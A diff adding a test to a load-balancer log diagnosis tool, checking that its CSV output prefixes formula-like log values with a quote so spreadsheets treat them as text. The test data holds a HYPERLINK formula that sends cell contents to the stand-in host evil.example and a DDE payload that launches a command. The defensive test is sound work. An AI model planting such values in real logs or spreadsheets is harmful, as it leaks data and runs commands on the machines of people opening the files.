@@ -59,3 +59,29 @@ def test_an_injected_value_in_the_logs_stays_data(tmp_path: Path) -> None:
     window = Window()
     d = diagnose(LocalEngine(discover([path], window).files, window), QueryParams(window))
     assert d.totals.elb_502 == 1
+
+
+def test_log_values_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
+    """CSV output is opened in spreadsheets: a value from the logs that starts like a formula is
+    prefixed with a quote, while numbers (-1) and the logs' own '-' stay as they are."""
+    import csv
+    import io
+
+    from typer.testing import CliRunner
+
+    from alb502athena.cli.app import app
+    from alb502athena.output import rows_csv
+
+    hostile = {
+        "request": 'GET =HYPERLINK("http://evil.example/?"&A1) HTTP/1.1',
+        "trace_id": "+cmd|' /C calc'!A0",
+    }
+    write_log(tmp_path / "a.log", [signature_line("connect-failed", **hostile)])
+    result = CliRunner().invoke(app, ["run", "connect-failed", str(tmp_path), "-o", "csv"])
+    assert result.exit_code == 0, result.output
+    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["request_url"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
+    assert row["trace_id"] == "'+cmd|' /C calc'!A0"
+    assert row["target_processing_time"] == "-1.0"
+    values = ["-", -1.0, "-1", "-x", "@a", "\tb", "ok", None]
+    assert rows_csv(["v"] * len(values), [values]).splitlines()[1] == "-,-1.0,-1,'-x,'@a,'\tb,ok,"
